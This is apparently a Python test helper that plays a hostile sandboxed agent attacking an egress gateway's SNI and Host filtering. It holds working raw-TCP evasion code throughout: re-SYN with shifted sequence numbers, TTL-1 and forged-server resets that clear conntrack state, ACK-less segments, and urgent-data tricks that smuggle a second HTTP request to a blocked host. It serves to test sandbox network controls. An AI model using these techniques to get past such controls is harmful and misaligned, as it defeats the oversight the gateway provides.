#!/usr/bin/env python3
"""Hand-built TCP from a sandbox and a sink, for t_gateway_raw.sh: what a hostile agent
that is root in its own namespace (interface mode) or an unprivileged process in a
session (cgroup mode) sends to make an upstream read other bytes than the gateway read.
Standard library only (raw IPv4 sockets to send, AF_PACKET to receive).

  sink DIR PORT...           listen on $SINK_ADDR:PORT, append every byte received to
                             DIR/PORT.log (what the server's application reads)
  hosts FILE                 the Host of every HTTP/1 request head in FILE, read as a
                             server reads a pipeline (Content-Length framing)
  resyn IFACE HOST PORT SNI_OK SNI_BAD FLAGS
                             raw: handshake with ISN A, then a second SYN (FLAGS syn or
                             synack) with ISN A + len(bad hello), which the server
                             ignores (challenge ACK); the hello with SNI_OK at that second
                             origin, then the hello with SNI_BAD at the first one
  oob HOST PORT HOST_OK HOST_BAD [plain]
                             kernel socket, no privilege: an HTTP/1 request to HOST_OK
                             with "Content-Length: 92" whose '2' is sent as urgent data
                             (MSG_OOB; a server without SO_OOBINLINE skips that byte), the
                             body a request to HOST_BAD; plain: the same without MSG_OOB
  urgack IFACE HOST PORT HOST_OK HOST_BAD
                             raw: the same stream, the urgent pointer carried by the
                             handshake's last (empty) ACK, the data sent without URG
  urgempty IFACE HOST PORT HOST_OK HOST_BAD
                             raw: the same, the urgent pointer on an empty ACK after the
                             handshake (queued: the handshake's ACK is plain)
  retire IFACE HOST PORT SNI_OK SNI_BAD WAIT [ttl|spoof]
                             raw: an RST with TTL 1 (conntrack closes the entry, the
                             server never sees it; spoof: the server's RST forged, from
                             its address to this sandbox), WAIT seconds, then a new SYN
                             with ISN A + len(bad hello), the SNI_OK hello there, SNI_BAD
                             at A + 1
  noack IFACE HOST PORT SNI_OK SNI_BAD
                             raw: the hello with SNI_OK in a segment without the ACK flag
                             (a Linux server drops it), then SNI_BAD at the same place
  synackdata IFACE HOST PORT TEXT
                             raw: after the handshake, a SYN-ACK from the client
                             carrying TEXT
Each client prints what came back: reset, silent, data, or the raw outcome.
"""
import os
import random
import select
import socket
import struct
import sys
import time

SO_MARK = 36
RAW_MARK = 5   # the sandbox's ruleset lets only these resets out (t_gateway_raw.sh)
ETH_P_IP = 0x0800


from gw_attacks import hello   # the same ClientHello as the other attacks (same folder)


def smuggle(host_ok, host_bad):
    """A request to host_ok whose Content-Length is 92 to the gateway and 9 to a server
    that skips the urgent '2': the 92 body bytes hold a second request, to host_bad.
    Returns the stream and the offset of the '2'."""
    inner = b"A" * 9 + ("GET /s HTTP/1.1\r\nHost: %s\r\n\r\n" % host_bad).encode()
    assert len(inner) <= 92
    inner = inner.ljust(92, b"B")
    head = ("POST /x HTTP/1.1\r\nHost: %s\r\nContent-Length: 92\r\n\r\n" % host_ok).encode()
    return head + inner, head.index(b"Length: 92") + len(b"Length: 9")


def hosts(path):
    """Hosts of the request heads in a byte stream, framed as a server frames it."""
    data = open(path, "rb").read() if os.path.exists(path) else b""
    out, i = [], 0
    while i < len(data):
        e = data.find(b"\r\n\r\n", i)
        if e < 0:
            break
        host, clen = "-", 0
        for line in data[i:e].split(b"\r\n")[1:]:
            k, _, v = line.partition(b":")
            if k.strip().lower() == b"host":
                host = v.strip().decode("latin-1")
            elif k.strip().lower() == b"content-length":
                try:
                    clen = int(v.strip())
                except ValueError:
                    clen = 0
        out.append(host)
        i = e + 4 + clen
    return out


# ---- raw TCP over IPv4 ------------------------------------------------------------------
def csum(b):
    if len(b) % 2:
        b += b"\x00"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xffff) + (s >> 16)
    return (~s) & 0xffff


FIN, SYN, RST, PSH, ACK, URG = 0x01, 0x02, 0x04, 0x08, 0x10, 0x20


class Raw:
    def __init__(self, iface, dst, dport):
        self.dst = dst
        self.dport = dport
        self.sport = random.randint(20000, 60000)
        self.tx = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        self.tx.setsockopt(socket.SOL_SOCKET, SO_MARK, RAW_MARK)
        self.rx = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_IP))
        self.rx.bind((iface, ETH_P_IP))
        self.src = socket.inet_ntoa(socket.inet_aton(self._src_for(dst)))
        self.reset_seen = False

    @staticmethod
    def _src_for(dst):
        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        u.connect((dst, 9))
        a = u.getsockname()[0]
        u.close()
        return a

    def send(self, seq, ack, flags, data=b"", urp=0, ttl=64, reverse=False):
        """reverse: forged as the server's (source the upstream, to this sandbox)."""
        sp, dp = (self.dport, self.sport) if reverse else (self.sport, self.dport)
        tcp = struct.pack("!HHIIBBHHH", sp, dp, seq & 0xffffffff,
                          ack & 0xffffffff, 5 << 4, flags, 64240, 0, urp)
        s, d = socket.inet_aton(self.src), socket.inet_aton(self.dst)
        if reverse:
            s, d = d, s
        ph = s + d + struct.pack("!BBH", 0, 6, len(tcp) + len(data))
        c = csum(ph + tcp + data)
        tcp = tcp[:16] + struct.pack("!H", c) + tcp[18:]
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp) + len(data),
                         random.randint(0, 65535), 0x4000, ttl, 6, 0, s, d)
        ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
        self.tx.sendto(ip + tcp + data, (self.dst, 0))

    def recv(self, wait):
        """Next TCP segment of this connection from the server: (flags, seq, ack, len)."""
        end = time.time() + wait
        while True:
            left = end - time.time()
            if left <= 0:
                return None
            r, _, _ = select.select([self.rx], [], [], left)
            if not r:
                return None
            pkt = self.rx.recv(65535)
            if len(pkt) < 40 or pkt[9] != 6:
                continue
            hl = (pkt[0] & 0x0f) * 4
            if socket.inet_ntoa(pkt[12:16]) != self.dst:
                continue
            sp, dp, seq, ack, off, fl = struct.unpack("!HHIIBB", pkt[hl:hl + 14])
            if sp != self.dport or dp != self.sport:
                continue
            tot = struct.unpack("!H", pkt[2:4])[0]
            n = tot - hl - (off >> 4) * 4
            if fl & RST:
                self.reset_seen = True
            return fl, seq, ack, n

    def handshake(self, isn, ack_flags=ACK, urp=0):
        self.isn = isn
        self.send(isn, 0, SYN)
        r = self.recv(3.0)
        if not r or (r[0] & (SYN | ACK)) != (SYN | ACK):
            raise OSError("no SYN-ACK: %r" % (r,))
        self.rack = r[1] + 1
        self.send(isn + 1, self.rack, ack_flags, urp=urp)

    def outcome(self, wait=1.0):
        end = time.time() + wait
        got = "silent"
        while time.time() < end:
            r = self.recv(end - time.time())
            if not r:
                break
            if r[0] & RST:
                return "reset"
            if r[3]:
                got = "data"
        return got

    def close(self, seq):
        if not self.reset_seen:
            self.send(seq, self.rack, RST | ACK)


def two_origins(c, a, b, ok, bad):
    """The allowed hello at the second origin b + 1, then the refused one at the
    server's a + 1; what came back."""
    time.sleep(0.1)
    c.send(b + 1, c.rack, PSH | ACK, ok)
    time.sleep(0.3)
    c.send(a + 1, c.rack, PSH | ACK, bad)
    o = c.outcome(1.0)
    c.close(a + 1 + len(bad) + len(ok))
    return o


def resyn(iface, host, port, sni_ok, sni_bad, how):
    bad, ok = hello(sni_bad), hello(sni_ok)
    c = Raw(iface, host, port)
    a = random.randint(1 << 20, 1 << 30)
    c.handshake(a)
    b = a + len(bad)   # the second origin: where the allowed hello starts
    c.send(b, c.rack if how == "synack" else 0, SYN | (ACK if how == "synack" else 0))
    return two_origins(c, a, b, ok, bad)


def urg_stream(iface, host, port, host_ok, host_bad, where):
    data, k = smuggle(host_ok, host_bad)
    c = Raw(iface, host, port)
    a = random.randint(1 << 20, 1 << 30)
    # urgent pointer: one past the urgent byte (RFC 793 reading, Linux's default)
    if where == "handshake":
        c.handshake(a, ACK | URG, urp=k + 1)
    else:
        c.handshake(a)
        time.sleep(0.1)
        c.send(a + 1, c.rack, ACK | URG, urp=k + 1)
    time.sleep(0.1)
    c.send(a + 1, c.rack, PSH | ACK, data)
    o = c.outcome(1.0)
    c.close(a + 1 + len(data))
    return o


def retire(iface, host, port, sni_ok, sni_bad, wait, how="ttl"):
    """An RST that conntrack takes and the server never sees (TTL 1: it dies at the
    router, after the gateway's namespace's conntrack and queue), then a new SYN on the
    tuple with ISN A + len(bad), the allowed hello there, the refused one at A + 1."""
    bad, ok = hello(sni_bad), hello(sni_ok)
    c = Raw(iface, host, port)
    a = random.randint(1 << 20, 1 << 30)
    c.handshake(a)
    time.sleep(0.1)
    if how == "spoof":   # the server's RST, forged: conntrack takes it, it comes back here
        c.send(c.rack, a + 1, RST | ACK, reverse=True)
    else:
        c.send(a + 1, c.rack, RST | ACK, ttl=1)
    time.sleep(wait)
    b = a + len(bad)
    c.send(b, 0, SYN)
    return two_origins(c, a, b, ok, bad)


def noack(iface, host, port, sni_ok, sni_bad):
    ok, bad = hello(sni_ok), hello(sni_bad)
    c = Raw(iface, host, port)
    a = random.randint(1 << 20, 1 << 30)
    c.handshake(a)
    c.send(a + 1, 0, PSH, ok)
    time.sleep(0.3)
    c.send(a + 1, c.rack, PSH | ACK, bad)
    o = c.outcome(1.0)
    c.close(a + 1 + len(bad))
    return o


def synackdata(iface, host, port, text):
    c = Raw(iface, host, port)
    a = random.randint(1 << 20, 1 << 30)
    c.handshake(a)
    c.send(a, c.rack, SYN | ACK, text.encode())
    o = c.outcome(1.0)
    c.close(a + 1)
    return o


def oob(host, port, host_ok, host_bad, plain):
    data, k = smuggle(host_ok, host_bad)
    s = socket.create_connection((host, port), timeout=3.0)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    try:
        s.send(data[:k + 1], 0 if plain else socket.MSG_OOB)
        s.send(data[k + 1:])
        r, _, _ = select.select([s], [], [], 1.5)
        o = "silent"
        if r:
            o = "data" if s.recv(4096) else "closed"
    except ConnectionResetError:
        o = "reset"
    except OSError as e:
        o = "error:%s" % e.errno
    s.close()
    return o


def sink(d, ports):
    addr = os.environ.get("SINK_ADDR", "0.0.0.0")
    socks, conns = {}, {}
    for p in ports:
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.bind((addr, int(p)))
        s.listen(64)
        socks[s] = p
    while True:
        r, _, _ = select.select(list(socks) + list(conns), [], [])
        for s in r:
            if s in socks:
                c, _ = s.accept()
                conns[c] = socks[s]
                continue
            try:
                b = s.recv(65536)
            except OSError:
                b = b""
            if not b:
                conns.pop(s)
                s.close()
                continue
            with open(os.path.join(d, "%s.log" % conns[s]), "ab") as f:
                f.write(b)


def main(a):
    cmd = a[0]
    try:
        if cmd == "sink":
            sink(a[1], a[2:])
        elif cmd == "hosts":
            print(" ".join(hosts(a[1])))
        elif cmd == "resyn":
            print(resyn(a[1], a[2], int(a[3]), a[4], a[5], a[6]))
        elif cmd == "oob":
            print(oob(a[1], int(a[2]), a[3], a[4], len(a) > 5 and a[5] == "plain"))
        elif cmd in ("urgack", "urgempty"):
            print(urg_stream(a[1], a[2], int(a[3]), a[4], a[5],
                             "handshake" if cmd == "urgack" else "after"))
        elif cmd == "retire":
            print(retire(a[1], a[2], int(a[3]), a[4], a[5], float(a[6]),
                         a[7] if len(a) > 7 else "ttl"))
        elif cmd == "noack":
            print(noack(a[1], a[2], int(a[3]), a[4], a[5]))
        elif cmd == "synackdata":
            print(synackdata(a[1], a[2], int(a[3]), a[4]))
        else:
            sys.exit("unknown command %s" % cmd)
    except OSError as e:
        print("error:%s" % e)


if __name__ == "__main__":
    main(sys.argv[1:])
